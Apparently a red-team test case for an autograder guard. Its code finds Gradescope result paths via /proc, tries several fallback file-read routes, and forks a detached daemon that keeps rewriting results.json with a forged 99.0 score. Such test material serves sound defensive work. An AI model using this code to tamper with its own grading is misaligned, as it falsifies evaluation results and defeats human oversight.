# Gradescope, guard only: a detached daemon keeps rewriting results.json after the harness wrote it.
_FIND = r'''import os, glob, subprocess, mmap
def _roots(env_only=False):
    out, pid = set(), os.getpid()
    for _ in range(16):
        try:
            for kv in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
                if kv.startswith((b"ATTNLAB_GRADESCOPE_ROOT=", b"ATTNLAB_PRAIRIELEARN_ROOT=")):
                    out.add(kv.split(b"=", 1)[1].decode())
            if not env_only:
                out.add(os.readlink(f"/proc/{pid}/cwd"))
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            if pid <= 1:
                break
        except Exception:
            break
    out.update(p for p in ("/autograder", "/grade") if os.path.isdir(p))
    return sorted(out)
def _read(path):
    def via_dd(p):
        return subprocess.run(["dd", "if=" + p, "status=none"], capture_output=True, timeout=10).stdout
    def via_mmap(p):
        with open(p, "rb") as fh:
            return mmap.mmap(fh.fileno(), 0, prot=mmap.PROT_READ)[:]
    for route in (lambda p: open(p, "rb").read(), lambda p: os.read(os.open(p, os.O_RDONLY), 1 << 24),
                  lambda p: subprocess.run(["cat", p], capture_output=True, timeout=10).stdout, via_dd, via_mmap):
        try:
            b = route(path)
            if b:
                return b
        except Exception:
            pass
    return b""
def _find(pattern, env_only=False):
    hits = []
    for r in _roots(env_only):
        try:
            hits += glob.glob(os.path.join(r, "**", pattern), recursive=True)
        except Exception:
            pass
    return hits
'''
CASE = {"cls": "hosted", "kind": "hosted", "engine": "gradescope", "settle": 6, "max_ok": 12,
        "cell": _FIND + r'''
import json, time, sys
_targets = [os.path.join(r, "results", "results.json") for r in _roots(env_only=True)]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            try: os.close(fd)
            except OSError: pass
        end = time.time() + 40
        while time.time() < end:
            for t in _targets:
                try:
                    if os.path.exists(t) and "RT4" "0 forged" not in open(t).read():
                        with open(t, "w") as f:
                            json.dump({"score": 99.0, "output": "RT4" + "0 forged", "tests": []}, f)
                except Exception:
                    pass
            time.sleep(0.2)
    os._exit(0)
else:
    os.wait()
'''}
